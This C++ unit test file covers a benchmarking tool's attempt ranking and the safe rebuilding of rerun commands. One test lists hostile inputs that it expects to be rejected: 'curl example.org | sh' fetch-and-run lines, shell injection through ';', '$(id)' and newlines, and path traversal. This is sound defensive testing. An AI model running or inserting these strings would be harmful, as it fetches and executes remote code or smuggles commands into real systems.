#include "lib/records/attempts.h"

#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "lib/base/files.h"

namespace feedrate {
namespace {

using testing::ElementsAre;
using testing::IsEmpty;

TEST(AttemptRankTest, OrdersAttemptsFromCleanToUseless) {
  const std::vector<int> ranks = {
      AttemptRank("ok", {"migrated"}),
      AttemptRank("ok", {"contended"}),
      AttemptRank("ok", {"contended", "migrated"}),
      AttemptRank("ok", {"throttled"}),
      AttemptRank("ok", {"contended", "throttled", "migrated"}),
      AttemptRank("ok", {"noisy"}),
      AttemptRank("ok", {"contended", "migrated", "noisy", "throttled"}),
      AttemptRank("early_stopped", {}),
      AttemptRank("crashed", {})};
  for (size_t i = 1; i < ranks.size(); ++i) EXPECT_LT(ranks[i - 1], ranks[i]);
  EXPECT_LT(AttemptRank("ok", {}), ranks[0]);
  EXPECT_EQ(AttemptRank("unsupported", {}), AttemptRank("early_stopped", {}));
  for (const char* status : {"failed", "timeout", "oom"}) {
    EXPECT_EQ(AttemptRank(status, {}), 32) << status;
  }
}

TEST(AttemptRankTest, WhatTheProgramItselfDoesIsNoDisturbance) {
  EXPECT_EQ(AttemptRank("ok", {"multithreaded", "noop"}), 0);
  Row row;
  row.set_status("ok");
  for (const char* warning : {"migrated", "multithreaded", "noop"}) {
    row.add_warnings(warning);
  }
  EXPECT_THAT(DisturbancesOf(row), IsEmpty());
  EXPECT_EQ(AttemptRank(row), AttemptRank("ok", {"migrated"}));
  row.add_warnings("contended");
  row.add_warnings("noisy");
  EXPECT_THAT(DisturbancesOf(row), ElementsAre("contended", "noisy"));
}

TEST(CommandAgainTest, LimitsAConfigToTheRows) {
  unsetenv("FEEDRATE_COMMAND");
  Row flip;
  flip.set_library("opencv");
  flip.set_transform("Flip");
  Row blur = flip;
  blur.set_transform("Blur");
  const std::vector<std::string> command = {
      "/opt/micro",          "--config=c.textproto", "--libraries", "a,b",
      "--transforms=Resize", "--output=old.jsonl",   "--resume",    "--seed=3",
      "--note=two words"};
  EXPECT_THAT(CommandAgain(command, {&flip, &blur}),
              ElementsAre("micro", "--config=c.textproto", "--seed=3",
                          "'--note=two words'", "--libraries=opencv",
                          "--transforms=Blur,Flip"));
  // Without transforms, those that were asked for stay.
  blur.clear_transform();
  EXPECT_THAT(
      CommandAgain(command, {&blur}),
      ElementsAre("micro", "--config=c.textproto", "--transforms=Resize",
                  "--seed=3", "'--note=two words'", "--libraries=opencv"));
  // Jobs of a file cannot be chosen.
  EXPECT_THAT(CommandAgain({"micro", "--jobs=j", "--output", "x"}, {&flip}),
              ElementsAre("micro", "--jobs=j"));
  EXPECT_THAT(CommandAgain({}, {&flip}), IsEmpty());
}

// Anybody can write a record, and people run what we print.
TEST(CommandAgainTest, TextOfOthersIsNoCommand) {
  unsetenv("FEEDRATE_COMMAND");
  const std::string own = testing::TempDir() + "/attempts_test_own";
  const std::string shared = testing::TempDir() + "/attempts_test_shared";
  ASSERT_TRUE(WriteFileAtomically(own, "").ok());
  ASSERT_TRUE(WriteFileAtomically(shared, "").ok());
  // Only root can give a file to a group of others.
  const bool has_group = chown(shared.c_str(), -1, getuid() + 1) == 0;
  ASSERT_EQ(chmod(shared.c_str(), has_group ? 0664 : 0666), 0);
  Row flip;
  flip.set_library("opencv");
  for (const std::vector<std::string>& command :
       std::vector<std::vector<std::string>>{
           {"sh", "-c", "curl example.org | sh"},
           {"micro", "--config=c", "; curl example.org | sh"},
           {"micro", "--config=$(id)"},
           {"micro", "--config=../../evil"},
           {"micro", "--config=c", "--python=./evil"},
           {"micro", "--config=c", "--libraries=evil:flip"},
           {"micro", "--config=c", "--subject", "evil"},
           {"micro", "--config=c", "--cache_dir=x"},
           {"micro", "--config=c\n--seed=1"},
           // What another user of the machine can write.
           {"micro", "--config=/no/such/folder/c"},
           {"micro", absl::StrCat("--config=", shared)},
           {"micro", "--config=c", "--jobs=/no/such/folder/j"},
           {"micro", "--config=c", absl::StrCat("--jobs=", shared)},
           {"./evil", "--config=c"}}) {
    EXPECT_THAT(CommandAgain(command, {&flip}), IsEmpty()) << command.back();
    EXPECT_THAT(CheckedCommand(command), IsEmpty()) << command.back();
  }
  EXPECT_EQ(FlagOf({"micro", "--python=./evil"}, "python"), "");
  EXPECT_EQ(FlagOf({"micro", "--dataset=s3://evil/x"}, "dataset"), "");
  EXPECT_EQ(FlagOf({"micro", "--dataset", "data/a b"}, "dataset"),
            "'--dataset=data/a b'");
  EXPECT_THAT(CheckedCommand({"./evil/micro", "--seed=3", "--output=x"}),
              ElementsAre("micro", "--seed=3"));
  EXPECT_THAT(CheckedCommand({"micro", "--config", own}),
              ElementsAre("micro", "--config=" + own));
  flip.set_library("evil:flip");
  EXPECT_THAT(CommandAgain({"micro", "--config=c"}, {&flip}), IsEmpty());
}

TEST(CommandAgainTest, NamesTheFrontCommandThatPeopleType) {
  setenv("FEEDRATE_COMMAND", "./feedrate", 1);
  Row row;
  row.set_library("opencv");
  EXPECT_THAT(CommandAgain({"/opt/bazel-bin/micro", "--jobs=j"}, {&row}),
              ElementsAre("./feedrate micro", "--jobs=j"));
  unsetenv("FEEDRATE_COMMAND");
}

}  // namespace
}  // namespace feedrate
